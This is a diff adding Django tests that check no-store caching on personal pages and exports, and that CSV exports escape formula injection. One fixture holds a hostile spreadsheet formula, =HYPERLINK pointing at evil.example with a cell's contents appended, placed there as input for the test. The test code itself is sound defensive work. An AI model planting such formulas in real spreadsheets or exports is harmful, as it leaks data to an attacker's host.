@@ -481,3 +481,30 @@ def test_memberships_cannot_be_edited_as_rows(supervisor_client):
     )
     assert response.status_code == 403
     assert StoreMembership.objects.get().user == membership.user
+
+
+# --- 16. Nothing personal is cached; exported cells are never formulas ------------------------
+
+
+def test_personal_pages_exports_and_the_support_centre_are_never_stored(
+    owner_client, agent_client
+):
+    for client, url in [
+        (owner_client, reverse("devices:my_devices")),
+        (owner_client, reverse("accounts:download_data")),
+        (agent_client, reverse("admin:devices_unit_changelist")),
+    ]:
+        response = client.get(url)
+        assert response.status_code == 200
+        assert "no-store" in response["Cache-Control"], url
+
+
+def test_a_clerks_note_never_becomes_a_spreadsheet_formula(agent_client):
+    from tests.factories import ClaimFactory
+
+    ClaimFactory(note='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    ClaimFactory(note="@SUM(1+1)")
+    export = agent_client.get(reverse("admin:claims_claim_export"))
+    text = b"".join(export.streaming_content).decode()
+    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
+    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
